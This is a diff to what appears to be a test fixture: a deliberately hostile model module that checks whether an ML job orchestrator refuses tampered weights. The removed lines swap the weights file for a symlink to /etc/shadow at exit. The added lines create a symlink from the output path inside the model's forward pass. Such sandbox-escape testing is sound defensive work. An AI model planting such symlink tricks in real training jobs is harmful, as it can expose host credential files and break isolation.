@@ -1,8 +1,8 @@
-"""After the fit job has written its results (at interpreter exit), replaces /out/weights.pt with a
-symlink to a host file (/etc/shadow), hoping the orchestrator copies that file into the next job.
+"""While the fit job trains, makes /out/weights.pt a symlink to /tmp/weights-real.pt: the harness's
+torch.save writes through it, so the job ends with weights.pt pointing at a path that on the host
+is a host file, hoping the orchestrator reads it or copies it into the next job.
 Must happen: the orchestrator refuses the weights; the predict job is never prepared."""
 
-import atexit
 import json
 import os
 
@@ -13,24 +13,13 @@ with open("/job/job.json") as stream:
     ACTION = json.load(stream)["action"]
 
 
-def _swap():
-    for name, target in (("weights.pt", "/etc/shadow"),):
-        try:
-            os.symlink(target, f"/out/{name}.swap")
-            os.replace(f"/out/{name}.swap", f"/out/{name}")
-            print(f"hostile: /out/{name} -> {target}", flush=True)
-        except OSError as exc:
-            print(f"hostile: could not swap {name}: {exc}", flush=True)
-
-
-if ACTION == "fit":
-    atexit.register(_swap)
-
-
 class Mixer(nn.Module):
     def __init__(self, d_model, num_heads=4, **kwargs):
         super().__init__()
         self.proj = nn.Linear(d_model, d_model)
 
     def forward(self, x: torch.Tensor) -> torch.Tensor:
+        if ACTION == "fit" and not os.path.lexists("/out/weights.pt"):
+            os.symlink("/tmp/weights-real.pt", "/out/weights.pt")
+            print("hostile: /out/weights.pt -> /tmp/weights-real.pt", flush=True)
         return self.proj(x)
